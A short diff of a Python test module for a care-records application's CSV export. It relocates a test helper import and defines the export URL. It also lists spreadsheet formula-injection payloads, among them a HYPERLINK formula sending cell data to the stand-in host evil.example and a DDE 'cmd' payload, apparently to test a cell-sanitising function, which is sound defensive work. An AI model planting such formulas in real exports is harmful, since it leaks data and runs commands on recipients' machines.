@@ -13,10 +13,11 @@ from lianxin.care.models import CareRecipient, Household, Meter
 from lianxin.cli import main
 from lianxin.csvcells import safe_cell
 from lianxin.store import open_stores
-from tests.web.test_pages import EXPORT, case  # noqa: F401
+from tests.web.helpers import case  # noqa: F401
 
 pytestmark = pytest.mark.django_db
 
+EXPORT = "/dispatch/export/care-recipients.csv"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(A1)"]
 
 
